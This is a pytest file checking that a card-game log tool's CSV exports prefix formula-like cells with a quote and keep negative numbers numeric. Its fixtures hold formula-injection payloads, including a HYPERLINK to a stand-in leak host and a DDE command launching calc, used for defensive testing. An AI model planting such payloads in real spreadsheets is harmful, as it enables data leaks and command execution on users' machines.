"""CSV cells that a spreadsheet would run (the reliability issue, second pass, point 12),
through the real commands in processes of their own: names, ids and events written as
formulas come out of every CSV writer (``export --games`` and ``--tricks``, ``annotate
--format csv`` with and without ``--explain``, ``stats --format csv``, ``tournament check
--format csv``, ``analyse --format csv``) with a single quote before them, and the
numbers, negative ones too, as numbers."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Final

import pytest

from phantom_log.analysis.simulator import Simulation, simulate_game
from phantom_log.rules.engine import Rules
from phantom_log.rules.sheets import RULEBOOK_SHEET

SIMULATION = Simulation(RULEBOOK_SHEET, Rules(), seed=1)
#: The issue's formulas, and a sum that would be computed.
FORMULAS: Final = [
    '=HYPERLINK("http://example.invalid/?leak","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "-2+3",
]
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def records(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Eight games whose players, ids, events, sites and stages are formulas."""
    lines = []
    for number in range(8):
        record = simulate_game(SIMULATION, number)
        record["game_id"] = f"{FORMULAS[number % 4]}#{number}"
        record["players"] = {
            "phantom": FORMULAS[number % 4],
            "christine": FORMULAS[(number + 1) % 4],
        }
        record["event"] = "=1+1"
        record["site"] = "+44 20 7946 0000"
        record["stage"] = "-1"
        lines.append(json.dumps(record))
    path = tmp_path_factory.mktemp("formulas") / "games.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def phantom_log(*args: str, cwd: Path) -> str:
    completed = subprocess.run(
        [sys.executable, "-m", "phantom_log", *args],
        capture_output=True,
        encoding="utf-8",
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        cwd=cwd,
        timeout=300,
        check=False,
    )
    assert completed.returncode == 0, completed.stderr
    return completed.stdout


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def checked_cells(text: str) -> tuple[list[str], list[str]]:
    """The text cells of a CSV text that begin with the text mark, and its numbers that
    begin with a minus; fails on any other cell a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    marked, negative = [], []
    for row in rows[1:]:
        for cell in row:
            if is_number(cell):
                negative += [cell] if cell.startswith("-") else []
                continue
            assert not (len(cell) > 1 and cell.startswith(FORMULA_STARTS)), cell
            if cell.startswith("'"):
                marked.append(cell[1:])
    return marked, negative


def test_export_writes_no_formula_in_either_table(records: Path, tmp_path: Path) -> None:
    phantom_log("export", str(records), "--games", "g.csv", "--tricks", "t.csv", cwd=tmp_path)
    games, _ = checked_cells((tmp_path / "g.csv").read_text(encoding="utf-8"))
    assert set(FORMULAS) <= set(games)
    assert {"=1+1", "+44 20 7946 0000", "-1", f"{FORMULAS[0]}#0"} <= set(games)
    tricks, _ = checked_cells((tmp_path / "t.csv").read_text(encoding="utf-8"))
    assert f"{FORMULAS[1]}#1" in tricks  # the game id of each trick


@pytest.mark.parametrize("explain", [[], ["--explain"]], ids=["tricks", "explained"])
def test_annotate_csv_writes_no_formula(records: Path, tmp_path: Path, explain: list[str]) -> None:
    text = phantom_log("annotate", str(records), "--format", "csv", *explain, cwd=tmp_path)
    marked, _ = checked_cells(text)
    assert {f"{formula}#{number}" for number, formula in enumerate(FORMULAS)} <= set(marked)


def test_stats_csv_writes_no_formula_and_keeps_negative_numbers(
    records: Path, tmp_path: Path
) -> None:
    text = phantom_log(
        "stats", str(records), "--by", "player", "--by", "stage", "--format", "csv", cwd=tmp_path
    )
    marked, negative = checked_cells(text)
    assert set(FORMULAS) | {"-1"} <= set(marked)
    assert negative, "a mean special effect below zero is a number, written as one"
    header = text.splitlines()[0].split(",")
    column = header.index("mean_special_effect")
    effects = [row[column] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert any(effect.startswith("-") and is_number(effect) for effect in effects)


def test_tournament_check_csv_writes_no_formula(records: Path, tmp_path: Path) -> None:
    text = phantom_log("tournament", "check", str(records), "--format", "csv", cwd=tmp_path)
    marked, _ = checked_cells(text)
    assert sorted(marked) == sorted(FORMULAS)  # the standings: one row a player


def test_analyse_csv_writes_no_formula(records: Path, tmp_path: Path) -> None:
    one = tmp_path / "one.jsonl"
    one.write_text(records.read_text(encoding="utf-8").splitlines()[0] + "\n", encoding="utf-8")
    text = phantom_log("analyse", str(one), "--format", "csv", "--time-limit", "2", cwd=tmp_path)
    marked, _ = checked_cells(text)
    assert set(marked) == {f"{FORMULAS[0]}#0"}
